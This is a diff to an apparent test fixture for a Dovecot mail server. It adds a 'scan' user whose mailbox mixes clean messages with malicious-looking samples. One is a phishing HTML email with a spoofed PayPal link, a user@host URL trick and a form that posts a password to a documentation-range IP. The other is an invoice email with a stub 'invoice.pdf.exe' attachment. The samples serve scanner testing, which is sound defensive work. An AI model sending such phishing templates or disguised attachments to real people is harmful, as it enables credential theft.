@@ -104,6 +104,31 @@ def _big(size: int = BIG_MESSAGE_BYTES) -> Message:
     return Message("big", _mail("Big attachment", body, headers))
 
 
+def _phishing_html() -> Message:
+    body = (
+        b"<html><body><p>Your account is locked.</p>\n"
+        b'<p><a href="http://198.51.100.7/login/verify">https://www.paypal.com/account</a></p>\n'
+        b'<p>Or sign in at <a href="http://bank.example@203.0.113.9/">bank.example</a></p>\n'
+        b"<form action=\"http://203.0.113.9/collect\" method=\"post\">"
+        b'<input name="password" type="password"></form>\n'
+        b"</body></html>\n"
+    )
+    headers = "MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n"
+    return Message("phish-html", _mail("Urgent: verify your account", body, headers))
+
+
+def _exe_attachment() -> Message:
+    exe = base64.encodebytes(b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run")
+    body = (
+        b"--b1\nContent-Type: text/plain\n\nPlease see the attached invoice.\n"
+        b"--b1\nContent-Type: application/octet-stream; name=\"invoice.pdf.exe\"\n"
+        b"Content-Disposition: attachment; filename=\"invoice.pdf.exe\"\n"
+        b"Content-Transfer-Encoding: base64\n\n" + exe + b"--b1--\n"
+    )
+    headers = 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b1"\n'
+    return Message("exe", _mail("Invoice", body, headers))
+
+
 def users() -> tuple[User, ...]:
     """The users of the test Dovecot.  ``alice`` is read-only; ``dele*`` are for DELE tests."""
     alice = (_plain(1), _dots(), _eight_bit(), _no_final_newline(), _big(), _plain(6))
@@ -114,6 +139,9 @@ def users() -> tuple[User, ...]:
         User("dave", "d4ve p@ss%&!", small[:1]),  # a password with a space and specials
         User("empty", "emptypw", ()),
         User("dele", "delepw", small),
+        # for scanning: clean and malicious mail side by side (read-only)
+        User("scan", "scanpw", (_plain(1), _phishing_html(), _dots(), _exe_attachment(),
+                                _no_final_newline())),
     )
 
 
